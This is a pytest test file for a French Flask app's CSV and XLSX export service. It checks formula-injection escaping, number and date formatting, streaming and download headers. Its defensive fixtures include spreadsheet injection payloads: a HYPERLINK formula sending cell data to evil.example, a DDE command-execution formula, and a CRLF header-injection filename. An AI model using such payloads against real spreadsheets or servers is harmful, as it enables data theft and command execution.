"""The export service: formula injection, French cells, streaming CSV, XLSX, download responses."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from flask import Flask
from openpyxl import load_workbook

from app.exports import (
    EXPORT_FORMATS,
    csv_cell,
    csv_chunks,
    excel_sheet_title,
    export_filename,
    export_response,
    safe_cell,
    write_xlsx,
    xlsx_cell,
)
from app.exports import response as response_module
from app.exports import writers

#: (stored text, what the spreadsheet must receive)
INJECTIONS = [
    ('=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")', '\'=HYPERLINK("http://evil.example/?d="&A1;"Cliquez")'),
    ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


def parse_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def read_xlsx(path: Path) -> list[list]:
    sheet = load_workbook(path).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def xlsx_path(tmp_path):
    return tmp_path / "export.xlsx"


# Cells


@pytest.mark.parametrize(("text", "escaped"), INJECTIONS)
def test_formula_text_gets_an_apostrophe(text, escaped):
    assert safe_cell(text) == escaped
    assert csv_cell(text) == escaped
    assert xlsx_cell(text) == escaped.replace("\r", "\n")  # Excel's in-cell line break


@pytest.mark.parametrize("text", ["Coopérative de l'école", "2+3", "a=b", "mail@example.org", "", "'=déjà échappé"])
def test_harmless_text_is_unchanged(text):
    assert csv_cell(text) == text
    assert xlsx_cell(text) == text


def test_control_character_removed_from_xlsx_cannot_uncover_a_formula():
    assert xlsx_cell("\x01=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"


def test_numbers_are_not_escaped():
    assert xlsx_cell(-2) == -2
    assert xlsx_cell(-2.5) == -2.5
    assert xlsx_cell(Decimal("-1234.50")) == Decimal("-1234.50")
    assert csv_cell(-2) == "-2"
    assert csv_cell(-2.5) == "-2,5"
    assert csv_cell(Decimal("-1234.50")) == "-1234,50"


def test_csv_numbers_use_a_decimal_comma_in_fixed_notation():
    assert csv_cell(0.1) == "0,1"
    assert csv_cell(1e-7) == "0,0000001"
    assert csv_cell(Decimal("1E+3")) == "1000"
    assert csv_cell(48230) == "48230"


def test_non_finite_numbers_are_empty():
    for value in (float("nan"), float("inf"), Decimal("NaN"), Decimal("-Infinity")):
        assert csv_cell(value) == ""
        assert xlsx_cell(value) == ""


def test_none_booleans_and_dates_in_french():
    assert csv_cell(None) == "" and xlsx_cell(None) == ""
    assert csv_cell(True) == "Oui" and xlsx_cell(True) == "Oui"
    assert csv_cell(False) == "Non" and xlsx_cell(False) == "Non"
    assert csv_cell(date(2026, 11, 27)) == "27/11/2026"
    assert csv_cell(datetime(2026, 11, 27, 9, 5, 42)) == "27/11/2026 09:05"
    assert xlsx_cell(date(2026, 11, 27)) == date(2026, 11, 27)


def test_aware_datetime_keeps_its_wall_clock_in_xlsx():
    assert xlsx_cell(datetime(2026, 11, 27, 9, 5, tzinfo=timezone.utc)) == datetime(2026, 11, 27, 9, 5)


def test_other_objects_are_text_and_escaped():
    class Label:
        def __str__(self):
            return "=1+1"

    assert csv_cell(Label()) == "'=1+1"


# CSV


def test_csv_round_trips_with_bom_semicolons_and_accents():
    header = ["Coopérative", "Ville", "Adhérents", "Montant", "Créée le", "Active"]
    rows = [
        ("École Jean Macé; la 2e", "Saint-Quentin", 27, Decimal("12.50"), date(2025, 9, 1), True),
        ('Dite "Les Écureuils"\nsur deux lignes', "Laon", 0, 3.0, None, False),
    ]
    text = "".join(csv_chunks(header, iter(rows)))

    assert text.startswith("\ufeffCoopérative;Ville;")
    assert "\r\n" in text
    assert parse_csv(text) == [
        header,
        ["École Jean Macé; la 2e", "Saint-Quentin", "27", "12,50", "01/09/2025", "Oui"],
        ['Dite "Les Écureuils"\nsur deux lignes', "Laon", "0", "3,0", "", "Non"],
    ]


def test_csv_escapes_injections():
    text = "".join(csv_chunks(["Nom"], ([stored] for stored, _ in INJECTIONS)))
    assert [row[0] for row in parse_csv(text)[1:]] == [escaped for _, escaped in INJECTIONS]


def test_csv_streams_a_generator_without_materialising_it():
    consumed = 0

    def database_rows():
        nonlocal consumed
        for number in range(20_000):
            consumed += 1
            yield (number, f"Coopérative {number}")

    chunks = csv_chunks(["N°", "Nom"], database_rows())
    first = next(chunks)
    assert consumed == writers.CSV_CHUNK_ROWS
    assert first.startswith("\ufeffN°;Nom\r\n")

    rest = list(chunks)
    assert consumed == 20_000
    assert len(rest) + 1 == 20_000 // writers.CSV_CHUNK_ROWS
    assert max(len(chunk) for chunk in rest) < 64 * 1024
    lines = parse_csv(first + "".join(rest))
    assert len(lines) == 20_001
    assert lines[-1] == ["19999", "Coopérative 19999"]


def test_csv_without_rows_is_the_header():
    assert list(csv_chunks(["Nom"], iter(()))) == ["\ufeffNom\r\n"]


# XLSX


def test_xlsx_keeps_values_and_escapes_injections(xlsx_path):
    rows = [
        ("Laon", -2, Decimal("12.5"), date(2025, 9, 1), datetime(2025, 9, 1, 14, 30), True, None),
        *[(stored, 1, 1.0, None, None, False, None) for stored, _ in INJECTIONS],
    ]
    write_xlsx(["Nom", "Solde", "Montant", "Date", "Horodatage", "Active", "Vide"], iter(rows), xlsx_path, "Coopératives")

    values = read_xlsx(xlsx_path)
    assert values[1][:3] == ["Laon", -2, 12.5]
    assert values[1][3].date() == date(2025, 9, 1)
    assert values[1][4] == datetime(2025, 9, 1, 14, 30)
    assert values[1][5:] == ["Oui", None]
    # Line ends become Excel's in-cell line break (XML would read a raw CR as LF anyway).
    assert [row[0] for row in values[2:]] == [escaped.replace("\r", "\n") for _, escaped in INJECTIONS]


def test_xlsx_text_loses_what_xml_cannot_hold():
    assert xlsx_cell("Ligne 1\r\nLigne 2\rLigne 3\x07") == "Ligne 1\nLigne 2\nLigne 3"
    assert len(xlsx_cell("é" * 40_000)) == 32_767


def test_xlsx_header_is_bold_and_frozen_and_dates_french(xlsx_path):
    write_xlsx(["Nom", "Date"], [("Laon", date(2025, 9, 1)), ("Soissons", datetime(2025, 9, 1, 8, 0))], xlsx_path, "Liste")

    sheet = load_workbook(xlsx_path).active
    assert sheet.title == "Liste"
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert not any(cell.font.bold for cell in sheet[2])
    assert sheet["B2"].number_format == "DD/MM/YYYY"
    assert sheet["B3"].number_format == "DD/MM/YYYY HH:MM"


def test_xlsx_writes_a_generator_of_rows(xlsx_path):
    write_xlsx(["N°"], ((number,) for number in range(1_000)), xlsx_path, "Suite")
    assert read_xlsx(xlsx_path)[-1] == [999]


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Coopératives", "Coopératives"),
        ("Prêts [2025/2026]: matériel*?\\", "Prêts 20252026 matériel"),
        ("Adhésions des coopératives scolaires de l'Aisne", "Adhésions des coopératives scol"),
        ("'Citée'", "Citée"),
        ("[]:*?/\\", "Export"),
        ("", "Export"),
    ],
)
def test_sheet_title_is_one_excel_accepts(title, expected):
    assert excel_sheet_title(title) == expected
    assert len(excel_sheet_title(title)) <= 31


def test_long_sheet_title_is_cut_when_written(xlsx_path):
    write_xlsx(["Nom"], [], xlsx_path, "Adhésions des coopératives scolaires: 2025/2026")
    assert load_workbook(xlsx_path).active.title == "Adhésions des coopératives scol"


# Responses


@pytest.fixture
def flask_app():
    return Flask(__name__)


def check_download_headers(response, filename: str):
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" in disposition
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers.get_all("Content-Disposition") == [disposition]
    assert filename in disposition


def test_csv_response(flask_app):
    with flask_app.test_request_context():
        response = export_response("cooperatives-2026-11-27", "csv", ["Nom", "Ville"], iter([("=1+1", "Laon")]))
        assert response.is_streamed
        body = response.get_data()

    assert response.mimetype == "text/csv"
    check_download_headers(response, 'filename=cooperatives-2026-11-27.csv')
    assert parse_csv(body.decode("utf-8")) == [["Nom", "Ville"], ["'=1+1", "Laon"]]


def test_xlsx_response(flask_app, tmp_path):
    with flask_app.test_request_context():
        response = export_response("adhérents-2026-11-27", "xlsx", ["Nom"], iter([("@SUM(A1)",), (-3,)]))
        body = response.get_data()
        response.close()

    assert response.mimetype == response_module.XLSX_MIMETYPE
    assert response.content_length == len(body)
    check_download_headers(response, "filename*=UTF-8''adh%C3%A9rents-2026-11-27.xlsx")
    assert 'filename=adherents-2026-11-27.xlsx' in response.headers["Content-Disposition"]
    (tmp_path / "back.xlsx").write_bytes(body)
    workbook = load_workbook(tmp_path / "back.xlsx")
    assert workbook.active.title == "adhérents-2026-11-27"
    assert read_xlsx(tmp_path / "back.xlsx") == [["Nom"], ["'@SUM(A1)"], [-3]]


def test_filename_fallback_is_plain_ascii(flask_app):
    with flask_app.test_request_context():
        response = export_response('prêts "élèves"/2026\r\nX-Evil: 1', "csv", ["Nom"], [])
    disposition = response.headers["Content-Disposition"]
    assert "filename=\"prets _eleves__2026__X-Evil_ 1.csv\"" in disposition
    assert "\r" not in disposition and "\n" not in disposition
    assert disposition.isascii()


@pytest.fixture
def export_app(flask_app, tmp_path, monkeypatch):
    """A plain Flask app with one export route; XLSX temporary files go to ``tmp_path``."""
    monkeypatch.setattr(response_module.tempfile, "tempdir", str(tmp_path))

    @flask_app.get("/export/<fmt>")
    def export(fmt):
        rows = ((number, f"Coopérative {number}") for number in range(2_000))
        return export_response(export_filename("cooperatives"), fmt, ["N°", "Nom"], rows)

    return flask_app


def test_xlsx_is_sent_in_chunks_then_deleted(export_app, tmp_path, monkeypatch):
    monkeypatch.setattr(response_module, "XLSX_CHUNK_SIZE", 4096)
    with export_app.test_request_context():
        response = export_response("cooperatives", "xlsx", ["N°"], ((n,) for n in range(2_000)))
    chunks = list(response.response)
    assert len(chunks) > 1
    assert all(len(chunk) <= 4096 for chunk in chunks)
    assert list(tmp_path.iterdir())
    response.close()
    assert not list(tmp_path.iterdir())


def test_xlsx_is_deleted_after_a_full_download(export_app, tmp_path):
    response = export_app.test_client().get("/export/xlsx", buffered=True)
    assert response.status_code == 200
    assert response.data.startswith(b"PK")
    assert not list(tmp_path.iterdir())


def test_xlsx_is_deleted_when_the_client_goes_away(export_app, tmp_path):
    response = export_app.test_client().get("/export/xlsx")
    assert list(tmp_path.iterdir())
    response.close()  # what a WSGI server does on disconnect, even before the first chunk
    assert not list(tmp_path.iterdir())


def test_xlsx_file_is_deleted_when_writing_fails(flask_app, tmp_path, monkeypatch):
    monkeypatch.setattr(response_module.tempfile, "tempdir", str(tmp_path))

    def failing_rows():
        yield ("Laon",)
        raise RuntimeError("database gone")

    with flask_app.test_request_context(), pytest.raises(RuntimeError):
        export_response("cooperatives", "xlsx", ["Nom"], failing_rows())
    assert not list(tmp_path.iterdir())


def test_csv_download_through_a_client(export_app):
    response = export_app.test_client().get("/export/csv")
    lines = parse_csv(response.get_data(as_text=True))
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert len(lines) == 2_001
    assert f"cooperatives-{date.today().isoformat()}.csv" in response.headers["Content-Disposition"]


def test_unknown_format_is_refused_in_french(flask_app):
    with flask_app.test_request_context(), pytest.raises(ValueError, match="Format d'export inconnu « pdf »"):
        export_response("cooperatives", "pdf", ["Nom"], [])
    assert EXPORT_FORMATS == ("csv", "xlsx")


def test_export_filename_is_stamped_with_the_day():
    assert export_filename("cooperatives", date(2026, 11, 27)) == "cooperatives-2026-11-27"
    assert export_filename("adhérents") == f"adhérents-{date.today():%Y-%m-%d}"


def test_an_export_column_must_be_a_column_a_relation_or_relation_column():
    import app.directory.models  # noqa: F401  (the mappers Registration's relations name)
    import app.years.models  # noqa: F401
    from app.actions.models import Registration
    from app.views import export_column_problem

    for column in ("status", "classroom", "classroom.name"):
        assert export_column_problem(Registration, column) is None, column
    assert export_column_problem(Registration, "school_name") == "« school_name » n'est ni une colonne, ni une relation, ni « relation.colonne » de Registration"
    assert export_column_problem(Registration, "classroom.nom") is not None and export_column_problem(Registration, "nothing.name") is not None
